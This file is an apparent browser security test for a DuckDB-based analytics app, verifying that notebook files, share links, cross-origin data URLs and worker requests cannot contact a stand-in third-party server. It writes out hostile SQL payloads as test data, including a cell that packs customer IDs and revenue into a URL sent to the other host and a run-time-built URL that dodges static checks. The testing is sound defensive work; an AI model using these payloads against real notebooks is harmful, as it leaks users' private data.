// Issue 13: "your data never leaves this machine", against a hostile notebook, share link or URL.
// The app is served as GitHub Pages serves it (no response headers: only the page's <meta> CSP),
// and a second server on another port stands in for a third-party site, logging every request
// that reaches it. Every known route is tried — notebook SQL (read_csv / read_parquet / read_json
// over http, LOAD / INSTALL httpfs, a custom extension repository, ATTACH, COPY … TO, the
// exfiltration cell of the outside attack, a URL built at run time so the notebook's own check
// cannot see it), the same cells from a notebook file and from a share link, a cross-origin
// ?data=, and fetches made from inside DuckDB's worker — and not one request may reach it.
// Hooks: cell-<n> (data-status), cell-error (data-refused), nb-open-input, nb-run-all.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Page } from 'playwright-core';
import { assertNoPageErrors, launchBrowser, type BrowserSession } from './helpers/browser';
import { SAMPLE, kpi, waitForAnalyses, waitForLoad } from './helpers/app';
import { openNotebook, waitForCell } from './helpers/notebook';
import { serializeNotebook } from '../../src/core/notebook/file';
import { encodeShare } from '../../src/core/notebook/share';
import type { NotebookDoc } from '../../src/core/notebook/model';

let other: Server;
let otherOrigin = '';
/** Every connection and request that reached the other site. */
const reached: string[] = [];
let session: BrowserSession;

beforeAll(async () => {
	other = createServer((req, res) => {
		reached.push(`${req.method} ${req.url}`);
		// Answers as a willing accomplice would: CORS open, a small CSV.
		res.writeHead(200, {
			'Content-Type': 'text/csv',
			'Access-Control-Allow-Origin': '*',
			'Access-Control-Allow-Headers': '*'
		});
		res.end('customer_id,order_date,amount\nx,2024-01-01,1\n');
	});
	// Connections, not only requests: an https:// attempt would reach the port as a TLS handshake
	// that is no HTTP request.
	other.on('connection', (socket) => reached.push(`connection from port ${socket.remotePort}`));
	await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
	otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
	session = await launchBrowser();
});

afterAll(async () => {
	await session?.close();
	await new Promise((resolve) => other?.close(resolve));
});

/** Route name → the SQL of a cell that tries it. */
function routes(): [string, string][] {
	const o = otherOrigin;
	return [
		['read_csv', `SELECT * FROM read_csv('${o}/read_csv.csv')`],
		['read_csv-https', `SELECT * FROM read_csv('${o.replace('http:', 'https:')}/tls.csv')`],
		['read_parquet', `SELECT * FROM read_parquet('${o}/read_parquet.parquet')`],
		['read_json', `SELECT * FROM read_json('${o}/read_json.json')`],
		['from-literal', `SELECT * FROM '${o}/from_literal.csv'`],
		['load-httpfs', 'LOAD httpfs'],
		['install-httpfs', `INSTALL httpfs FROM '${o}/install'`],
		['extension-repository', `SET custom_extension_repository = '${o}/repo'`],
		['attach', `ATTACH '${o}/attach.db' AS remote`],
		['copy-to', `COPY (SELECT * FROM orders) TO '${o}/copy.csv'`],
		[
			'exfiltration',
			"SET VARIABLE s = (SELECT string_agg(customer_id || ':' || revenue, '_') FROM orders);\n" +
				`SELECT * FROM read_csv('${o}/x?d=' || getvariable('s'))`
		],
		// No URL literal for the notebook's check to see: only the engine's lockdown stops it.
		[
			'runtime-url',
			`SELECT * FROM read_csv(concat('http:', '//${o.slice('http://'.length)}/runtime.csv'))`
		]
	];
}

function doc(): NotebookDoc {
	return {
		cells: routes().map(([name, source], i) => ({
			id: `c${i + 1}`,
			kind: 'sql' as const,
			name: `route_${name.replaceAll('-', '_')}`,
			source
		})),
		settings: { rowLimit: 1000 },
		mapping: null
	};
}

/**
 * Runs every route cell (Run all stops at the first failing cell, so each is run by its own
 * button after it) and checks that each ended in an error saying Clientele refused it.
 */
async function expectAllRefused(page: Page) {
	await page.getByTestId('nb-run-all').click();
	const n = routes().length;
	for (let i = 1; i <= n; i++) {
		if (i > 1) await page.getByTestId(`cell-${i}`).getByTestId('cell-run').click();
		await waitForCell(page, i, 'error');
		const error = page.getByTestId(`cell-${i}`).getByTestId('cell-error');
		expect(await error.getAttribute('data-refused'), routes()[i - 1]![0]).toMatch(
			/network|settings|extension|database|files/
		);
	}
}

async function loadSample(page: Page) {
	await page.getByTestId('load-sample').click();
	await waitForLoad(page, { loaded: SAMPLE.loaded, timeout: 50_000 });
	await waitForAnalyses(page);
}

describe('no route sends a byte to another site (Pages-like: no response headers)', () => {
	it('the app server sends no Content-Security-Policy header (the meta tag must do)', async () => {
		const res = await fetch(inject('appUrl'));
		expect(res.headers.get('content-security-policy')).toBeNull();
	});

	it('refuses every notebook route from a notebook file, with data loaded', async () => {
		const { page } = session;
		await page.goto(inject('appUrl'));
		await loadSample(page);
		await openNotebook(page);
		await page.getByTestId('nb-open-input').setInputFiles({
			name: 'hostile.clientele.json',
			mimeType: 'application/json',
			buffer: Buffer.from(serializeNotebook(doc()))
		});
		await page.getByTestId('cell-1').waitFor();
		await expectAllRefused(page);
		const texts = await page.getByTestId('cell-error').allTextContents();
		expect(texts[0]).toMatch(/does not read from the network/);
		// The engine is free afterwards: a query and a filter change still finish.
		await page.getByTestId('nb-add-sql').click();
		const n = routes().length + 1;
		await page.getByTestId(`cell-${n}`).locator('.cm-content').click();
		await page.keyboard.type('SELECT count(*) AS n FROM orders', { delay: 2 });
		await page.keyboard.press('Escape');
		await page.keyboard.press('Control+Enter');
		await waitForCell(page, n, 'done');
	});

	it('refuses them from a share link too, once the user runs it', async () => {
		const page = await session.context.newPage();
		try {
			await page.goto(`${inject('appUrl')}?sample#nb=${await encodeShare(doc())}`);
			await waitForLoad(page, { loaded: SAMPLE.loaded, timeout: 50_000 });
			await page.getByTestId('cell-1').waitFor({ timeout: 20_000 });
			await expectAllRefused(page);
		} finally {
			await page.close();
		}
	});

	it("binds DuckDB's worker by the page's policy: fetch, XHR and importScripts there fail", async () => {
		const { page } = session;
		const workers = page.workers();
		// DuckDB's, and the forecast's and the basket miner's (../src/analyses/job-worker.ts): every
		// worker the dashboard starts is started from a blob: URL and bound by the page's policy.
		const names = await Promise.all(workers.map((w) => w.evaluate(() => self.name)));
		expect(names).toEqual(
			expect.arrayContaining(['duckdb', 'clientele-clv-fit', 'clientele-basket-mine'])
		);
		for (const worker of workers) {
			const outcome = await worker.evaluate(async (url) => {
				const tries: string[] = [];
				try {
					await fetch(`${url}/worker-fetch`);
					tries.push('fetch went out');
				} catch {
					tries.push('fetch blocked');
				}
				try {
					const xhr = new XMLHttpRequest();
					xhr.open('GET', `${url}/worker-xhr`, false);
					xhr.send();
					tries.push('xhr went out');
				} catch {
					tries.push('xhr blocked');
				}
				try {
					(self as unknown as { importScripts(u: string): void }).importScripts(
						`${url}/worker-script.js`
					);
					tries.push('script went out');
				} catch {
					tries.push('script blocked');
				}
				return tries;
			}, otherOrigin);
			expect(outcome).toEqual(['fetch blocked', 'xhr blocked', 'script blocked']);
		}
	});

	it('refuses a cross-origin ?data= before fetching', async () => {
		const page = await session.context.newPage();
		try {
			await page.goto(`${inject('appUrl')}?data=${encodeURIComponent(`${otherOrigin}/data.csv`)}`);
			expect((await waitForLoad(page, { states: ['error'] })).state).toBe('error');
		} finally {
			await page.close();
		}
	});

	it('the dashboard still works after all of it', async () => {
		const { page } = session;
		await page.getByTestId('open-dashboard').click();
		expect(await kpi(page, 'customers')).toBe(SAMPLE.customers);
	});

	it('no request reached the other site, and none was attempted from the page', async () => {
		await new Promise((r) => setTimeout(r, 500)); // a late request would show up here
		expect(reached).toEqual([]);
		// Chromium reports the worker's deliberate synchronous XHR above as a request even though
		// the policy stopped it (the log above shows it never arrived); nothing else may appear.
		const attempted = session.requests.filter((url) => url.startsWith(otherOrigin));
		expect(attempted.filter((url) => !url.endsWith('/worker-xhr'))).toEqual([]);
		assertNoPageErrors(session);
	});
});
